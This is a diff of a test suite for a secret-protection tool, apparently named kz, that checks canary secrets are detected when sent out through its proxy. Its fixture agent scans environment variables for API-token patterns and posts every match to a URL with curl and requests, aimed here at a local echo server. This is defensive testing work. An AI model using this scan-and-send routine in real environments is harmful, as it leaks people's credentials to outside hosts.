@@ -32,13 +32,15 @@ url, ca = sys.argv[1], sys.argv[2]
 looks = re.compile(r"(sk-|sk_live_|ghp_|github_pat_|xox[bp]-|AKIA|KZ_TOK_)[A-Za-z0-9_-]{16,}")
 keys = {k: v for k, v in os.environ.items() if looks.search(v)}
 print("found", " ".join(sorted(keys)), flush=True)
+# ca "-": the trust the environment gives (under kz's proxy, its bundles).
+cacert = ["--cacert", ca] if ca != "-" else []
 for k, v in sorted(keys.items()):
-    subprocess.run(["curl", "-s", "-o", "/dev/null", "--http1.1", "--cacert", ca, "-H", "Authorization: Bearer " + v,
+    subprocess.run(["curl", "-s", "-o", "/dev/null", "--http1.1", *cacert, "-H", "Authorization: Bearer " + v,
                     url + "/curl/" + k], check=False)
 print("after-curl", flush=True)
 for k, v in sorted(keys.items()):
     try:
-        requests.post(url + "/requests/" + k, data={"key": v}, verify=ca, timeout=20)
+        requests.post(url + "/requests/" + k, data={"key": v}, verify=ca if ca != "-" else True, timeout=20)
     except Exception as e:
         print("requests failed:", type(e).__name__, flush=True)
 print("after-requests", flush=True)
@@ -51,12 +53,12 @@ class BlindCanaryTest(BlindTestCase):
         self.port, self.record = self.echo_server(alpn="http/1.1")
         self.agent = self.write("agent.py", EXFIL_AGENT)
 
-    def write_config(self, canary_table=""):
-        self.blind_config({"GITHUB_TOKEN": {"ref": "KZ_TEST_REAL", "hosts": ["api.github.com"]}},
-                          extra="\n[secrets.OPENAI_API_KEY]\ncanary = true\n" + canary_table)
+    def write_config(self, canary_table="", blind="", real_host="api.github.com"):
+        self.blind_config({"GITHUB_TOKEN": {"ref": "KZ_TEST_REAL", "hosts": [real_host]}},
+                          extra=blind + "\n[secrets.OPENAI_API_KEY]\ncanary = true\n" + canary_table)
 
-    def exfiltrate(self, *flags):
-        return self.run_blind(PY, self.agent, "https://localhost:%d" % self.port, self.ca["ca"],
+    def exfiltrate(self, *flags, ca=None):
+        return self.run_blind(PY, self.agent, "https://localhost:%d" % self.port, ca or self.ca["ca"],
                               flags=flags, env=self.env(KZ_TEST_REAL=REAL))
 
     def test_env_scan_exfiltration_is_a_canary_record(self):
@@ -107,6 +109,20 @@ class BlindCanaryTest(BlindTestCase):
         stop = self.assertAudited("run.stop")[-1]
         self.assertEqual(stop["decision"], "canary")
         self.assertEqual(stop["exit"], 3)
+
+    def test_proxy_sees_it_too(self):
+        # --blind=proxy: no shim; the fallback proxy (its port redirected) asks decide. It
+        # opens TLS only to hosts some secret is bound to (else it passes it through), so
+        # the exfiltration here goes to a bound API, as a post to an allowed API would.
+        self.write_config(blind="proxy_ports = [%d]\n" % self.port, real_host="localhost")
+        r = self.exfiltrate("--blind=proxy", ca="-")
+        self.assertEqual(r.returncode, 0, r.stderr[-3000:])
+        self.assertNotIn("requests failed", r.stdout)
+        recs = self.assertAudited("canary", secret="OPENAI_API_KEY", where="proxy")
+        exes = {os.path.basename(x.get("exe", "")) for x in recs}
+        self.assertIn("curl", exes, recs)
+        self.assertTrue(any(e.startswith("python3") for e in exes), recs)
+        self.assertEqual(recs[0]["host"], "localhost")
 
     def test_kill_from_the_command_line(self):
         self.write_config()
